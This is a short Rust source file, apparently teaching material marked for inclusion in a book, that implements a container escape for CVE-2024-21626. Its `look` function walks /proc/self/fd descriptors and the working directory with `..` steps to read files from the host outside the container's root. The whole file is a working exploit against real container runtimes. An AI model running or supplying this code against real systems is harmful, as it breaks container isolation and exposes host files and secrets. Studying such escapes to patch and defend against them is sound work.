//! CVE-2024-21626: a folder of the host that somebody forgot to close.

use std::fs;

// ANCHOR: attack
/// A descriptor of a folder is a way into the tree where it was opened, whatever root its holder has now. So is the
/// working directory, if the runner let it be `/proc/self/fd/7`. From either, `..` leads up to the top.
pub fn look(words: &[String]) -> Result<String, String> {
    let file = words.first().ok_or("FILE is needed")?;
    let folders = (3..1024).map(|fd| format!("/proc/self/fd/{fd}")).chain([".".to_owned()]);
    for folder in folders {
        for up in ["", "/..", "/../..", "/../../..", "/../../../.."] {
            if let Ok(text) = fs::read_to_string(format!("{folder}{up}{file}")) {
                return Ok(format!("through {folder}{up}: {}", text.trim()));
            }
        }
    }
    Err(format!("no open folder leads to {file}"))
}
// ANCHOR_END: attack
